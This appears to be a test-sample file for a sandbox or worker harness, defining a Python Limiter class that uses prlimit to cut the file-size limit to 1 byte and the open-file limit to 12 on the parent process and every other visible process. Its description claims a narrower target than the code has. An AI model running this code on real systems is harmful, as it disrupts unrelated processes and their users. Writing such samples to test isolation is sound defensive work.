FAMILY = "F1"
DESCRIPTION = "prlimit64 on the worker pid: RLIMIT_FSIZE=1 and RLIMIT_NOFILE lowered, inherited by every child the worker forks later."
CLASS = "Limiter"
CODE = r'''
import os, resource

class Limiter:
    def __init__(self, init_config=None):
        self.done = []

    def squeeze(self):
        """Lower the limits of the parent process and of every other process visible."""
        out = {}
        for pid in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (os.getpid(), os.getppid())]:
            for name, value in (("RLIMIT_FSIZE", 1), ("RLIMIT_NOFILE", 12)):
                try:
                    resource.prlimit(pid, getattr(resource, name), (value, value))
                    out[f"{pid}:{name}"] = "set"
                except (OSError, ValueError) as exc:
                    out[f"{pid}:{name}"] = type(exc).__name__
        self.done = sorted(out)
        return {"success": True, "data": out}
'''
ACTIONS = [("squeeze", {})]
